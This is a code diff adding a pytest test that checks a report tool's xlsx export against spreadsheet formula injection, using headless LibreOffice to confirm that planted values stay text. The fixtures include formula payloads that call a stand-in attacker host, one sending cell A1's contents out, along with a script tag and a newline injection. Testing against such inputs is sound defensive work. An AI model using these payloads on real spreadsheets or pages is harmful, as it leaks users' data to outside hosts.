@@ -107,6 +107,32 @@ def plain(value):
         return str(value)
 
 
+@pytest.mark.libreoffice
+def test_libreoffice_reads_the_xlsx_report_as_the_csv_report_and_runs_no_formula(runner, in_examples, tmp_path):
+    """LibreOffice's headless converter, a spreadsheet program people use, reads every sheet back."""
+    import subprocess
+
+    from tests.support import tool
+
+    previous = json.loads((EXAMPLES / "report.json").read_text())
+    hostile = next(i for i in previous["items"] if i["id"] == "erp-db01")
+    hostile.update(id="=1+1", name='=HYPERLINK("http://attacker.example","x")')  # what a VM name may hold
+    (tmp_path / "before.json").write_text(json.dumps(previous))
+    run(runner, *INPUTS, "--compare", str(tmp_path / "before.json"), "--format", "xlsx", "-o", str(tmp_path / "r.xlsx"))
+    converted = subprocess.run(
+        [tool("soffice"), "--headless", "--norestore", f"-env:UserInstallation={(tmp_path / 'lo').as_uri()}",
+         "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1",
+         "--outdir", str(tmp_path / "out"), str(tmp_path / "r.xlsx")],
+        capture_output=True, text=True, timeout=180, check=False,
+    )  # fmt: skip
+    assert converted.returncode == 0, converted.stderr
+    items = list(csv.reader(io.StringIO((tmp_path / "out" / "r-Items.csv").read_text())))
+    expected = list(csv.reader(io.StringIO((EXAMPLES / "report.csv").read_text())))
+    assert [[plain(c) for c in row] for row in items] == [[plain(c) for c in row] for row in expected]
+    changes = (tmp_path / "out" / "r-Changes.csv").read_text()
+    assert "removed,=1+1," in changes and "removed,2," not in changes  # text stayed text: nothing was computed
+
+
 def test_input_text_never_becomes_a_formula_or_markup(runner, tmp_path):
     hostile_name = '=HYPERLINK("http://attacker.example/?"&A1,"x")'
     hostile_os = "<script>alert(1)</script>\n# injected: true"
